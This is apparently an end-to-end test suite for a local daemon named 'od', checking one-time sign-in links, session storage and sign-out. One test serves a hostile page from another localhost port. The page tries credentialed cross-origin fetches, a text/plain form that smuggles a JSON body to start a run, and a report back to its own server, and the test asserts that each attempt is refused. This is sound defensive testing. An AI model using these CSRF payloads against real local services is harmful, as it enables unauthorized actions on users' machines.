// The built binary, started the way a user starts it, opened in a real browser — and attacked from another port.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, mkdirSync, rmSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { openApiDocument } from "../../server/http/openapi-document.ts";
import { VERSION } from "../../server/version.ts";
import { startDaemonProcess, type RunningDaemon } from "../support/daemon-process.ts";
import { tempDir } from "../support/temp.ts";
import { binaryCopy } from "./support/binary.ts";
import { launchBrowser } from "./support/browser.ts";
import { fakeAgentPath, type FakeAgentPath } from "./support/fake-agent-path.ts";

const screenshots = join(import.meta.dir, "screenshots");
mkdirSync(screenshots, { recursive: true });

const connected = (page: Page) => page.waitForFunction(() => document.querySelector("#daemon-status")?.textContent?.startsWith("connected"));

describe("the binary in Chromium", () => {
  const data = tempDir("od-e2e-data-");
  let od: RunningDaemon;
  let fakes: FakeAgentPath;
  let bin: string;
  let binDir: string;

  beforeAll(async () => {
    const copy = await binaryCopy();
    binDir = copy.dir;
    bin = copy.bin;
    chmodSync(copy.bin, 0o755);
    fakes = fakeAgentPath(data.path, { claude: {} });
    od = await startDaemonProcess([copy.bin, "--port", "0", "--no-open", "--data-dir", join(data.path, "od")], { cwd: copy.dir, env: { PATH: fakes.path } });
  }, 60_000);

  afterAll(async () => {
    await od?.stop();
    data[Symbol.dispose]();
    if (binDir) rmSync(binDir, { recursive: true, force: true });
  });

  async function api<T>(path: string, init: RequestInit = {}): Promise<T> {
    const res = await fetch(`${od.origin}${path}`, { ...init, headers: { authorization: `Bearer ${od.token}`, "content-type": "application/json", ...init.headers } });
    if (!res.ok) throw new Error(`${init.method ?? "GET"} ${path}: ${res.status} ${await res.text()}`);
    return (await res.json()) as T;
  }

  test("serves the OpenAPI document its build embedded, to an authenticated client only", async () => {
    expect(await api("/api/openapi.json")).toEqual(JSON.parse(JSON.stringify(openApiDocument(VERSION))));
    expect((await fetch(`${od.origin}/api/openapi.json`)).status).toBe(401);
  });

  test("the printed URL's one-time code signs one browser in, into origin-scoped storage, with no cookie; it works once", async () => {
    expect(od.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+$/);
    expect(od.code).not.toBe(od.token);
    await using browser = await launchBrowser();
    const page = await browser.newPage();
    const consoleErrors: string[] = [];
    page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
    await page.goto(od.url);
    await connected(page);
    expect(new URL(page.url()).search).toBe(""); // the code left the address bar
    expect(await page.textContent(".brand")).toBe("od");
    expect(await page.isVisible("aside.sidebar")).toBe(true);
    expect(await page.isVisible("aside.files")).toBe(true);
    expect(await page.context().cookies()).toEqual([]);
    expect(await page.evaluate(() => localStorage.getItem("od.session"))).toMatch(/^[\w-]{32}$/);
    await page.reload(); // the stored session outlives a reload
    await connected(page);
    await page.screenshot({ path: join(screenshots, "shell.png") });
    expect(consoleErrors).toEqual([]);

    // The same printed URL in another browser profile: the code is dead, and the page says what to do.
    const other = await (await browser.newContext()).newPage();
    await other.goto(od.url);
    await other.waitForSelector("[data-testid=signed-out]");
    expect(await other.textContent("#daemon-status")).toContain("not signed in");
    expect(await other.textContent("[data-testid=signed-out]")).toContain("already used");
    expect(await other.textContent("[data-testid=signed-out]")).toContain("run od open"); // the command that always works
    await other.screenshot({ path: join(screenshots, "signed-out.png") });

    // The signed-in page hands out a fresh one-time link for it (Settings → Another browser).
    await page.click("[data-testid=open-settings]");
    await page.click("[data-testid=new-sign-in-link]");
    const link = (await page.textContent("[data-testid=sign-in-link] code"))!;
    expect(link).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+$/);
    await other.goto(link);
    await connected(other);

    // Sign out everywhere (Settings): both browsers are signed out, and say how to sign in again.
    await other.click("[data-testid=open-settings]");
    await other.click("[data-testid=sign-out-everywhere-button]");
    await other.waitForSelector("[data-testid=signed-out]");
    await page.reload();
    await page.waitForSelector("[data-testid=signed-out]");
    expect(await page.textContent("#daemon-status")).toBe("not signed in — run od open in a terminal");
    expect((await api<{ config: unknown }>("/api/app-config")).config).toBeDefined(); // the API token still works
  }, 60_000);

  test("a page on another 127.0.0.1 port receives nothing that authenticates, and cannot read, write, run or probe", async () => {
    await using browser = await launchBrowser();
    const context = await browser.newContext();
    const victim = await context.newPage();
    await victim.goto(await od.signInUrl());
    await connected(victim);
    const secret = (await victim.evaluate(() => localStorage.getItem("od.session")))!;
    expect(secret).toBeTruthy();
    await api("/api/agents"); // the start-up probe pass is over
    const probesBefore = fakes.probes();
    expect(probesBefore).toBeGreaterThan(0);

    const target = od.origin;
    const received: Array<{ url: string; headers: Record<string, string> }> = [];
    const evil = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: (request) => {
        received.push({ url: request.url, headers: Object.fromEntries(request.headers) });
        if (new URL(request.url).pathname !== "/") return new Response("", { status: 204 });
        return new Response(
          `<!doctype html><body>
           <form id="f" method="POST" action="${target}/api/runs" enctype="text/plain" target="sink">
             <input name='{"projectId":"p","message":"pwn","x":"' value='"}'></form>
           <iframe name="sink"></iframe>
           <img src="${target}/api/agents?stream=1"><img src="${target}/api/runs">
           <script>
             (async () => {
               const results = {};
               const attempt = async (name, run) => { try { results[name] = await run(); } catch (e) { results[name] = "blocked: " + e.name; } };
               await attempt("read", async () => (await fetch("${target}/api/app-config", { credentials: "include" })).status);
               await attempt("run", async () => (await fetch("${target}/api/runs", { method: "POST", mode: "no-cors", credentials: "include",
                 headers: { "content-type": "text/plain" }, body: JSON.stringify({ projectId: "p", message: "pwn" }) })).type);
               await attempt("probe", async () => (await fetch("${target}/api/agents/rescan", { method: "POST", mode: "no-cors", credentials: "include" })).type);
               await attempt("probeGet", async () => (await fetch("${target}/api/agents?stream=1", { mode: "no-cors", credentials: "include" })).type);
               await attempt("session", async () => (await fetch("${target}/api/session/links", { method: "POST", mode: "no-cors", credentials: "include" })).type);
               results.storage = JSON.stringify(Object.keys(localStorage));
               await fetch("/report", { method: "POST", body: JSON.stringify(results) });
               document.getElementById("f").submit();
               setTimeout(() => { document.title = "done:" + JSON.stringify(results); }, 500);
             })();
           </script></body>`,
          { headers: { "content-type": "text/html" } },
        );
      },
    });
    try {
      const attacker = await context.newPage();
      const odResponses: Array<{ url: string; status: number }> = [];
      attacker.on("response", (r) => r.url().startsWith(target) && odResponses.push({ url: r.url(), status: r.status() }));
      await attacker.goto(`http://127.0.0.1:${evil.port}/`);
      await attacker.waitForFunction(() => document.title.startsWith("done:"), undefined, { timeout: 20_000 });
      await Bun.sleep(1500); // time for any probe pass the attack might have started to reach the fakes

      const results = JSON.parse((await attacker.title()).slice("done:".length)) as Record<string, unknown>;
      expect(results.read).toBe("blocked: TypeError"); // CORS: no readable answer
      expect(results.storage).toBe("[]"); // the session lives in od's origin, not this one's
      // Nothing the attacker's own server saw carries a cookie, the session secret or the API token.
      const seen = JSON.stringify(received);
      expect(seen).not.toContain(secret);
      expect(seen).not.toContain(od.token);
      expect(received.every((r) => r.headers.cookie === undefined)).toBe(true);
      // od refused every request the page made to it, and none started a run or a probe.
      expect(odResponses.length).toBeGreaterThan(0);
      for (const response of odResponses) expect([response.url, response.status]).toEqual([response.url, 403]);
      expect((await api<{ runs: unknown[] }>("/api/runs")).runs).toEqual([]);
      expect(fakes.probes()).toBe(probesBefore);
      await connected(victim); // the victim's own page is untouched
    } finally {
      await evil.stop(true);
    }
  }, 60_000);

  test("two od instances in one browser both stay signed in", async () => {
    const secondData = tempDir("od-e2e-second-");
    const second = await startDaemonProcess([bin, "--port", "0", "--no-open", "--data-dir", secondData.path], { cwd: binDir, env: { PATH: fakes.path } });
    try {
      await using browser = await launchBrowser();
      const context = await browser.newContext();
      const first = await context.newPage();
      await first.goto(await od.signInUrl());
      await connected(first);
      const other = await context.newPage();
      await other.goto(await second.signInUrl());
      await connected(other);
      await first.reload();
      await connected(first);
      await other.reload();
      await connected(other);
      expect(await first.evaluate(() => localStorage.getItem("od.session"))).not.toBe(await other.evaluate(() => localStorage.getItem("od.session")));
    } finally {
      await second.stop();
      secondData[Symbol.dispose]();
    }
  }, 60_000);
});
